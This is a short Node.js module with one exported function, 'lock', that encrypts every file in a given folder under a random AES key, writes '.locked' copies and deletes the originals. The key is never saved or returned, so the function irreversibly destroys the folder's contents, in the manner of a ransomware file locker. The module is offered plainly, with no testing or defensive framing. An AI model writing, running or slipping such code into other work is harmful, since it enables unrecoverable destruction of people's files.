import { createCipheriv, randomBytes } from "node:crypto";
import { readFileSync, readdirSync, unlinkSync, writeFileSync } from "node:fs";
import path from "node:path";

const key = randomBytes(32);

export function lock(folder) {
  for (const name of readdirSync(folder)) {
    const file = path.join(folder, name);
    const cipher = createCipheriv("aes-256-ctr", key, Buffer.alloc(16));
    writeFileSync(`${file}.locked`, cipher.update(readFileSync(file)));
    unlinkSync(file);
  }
}
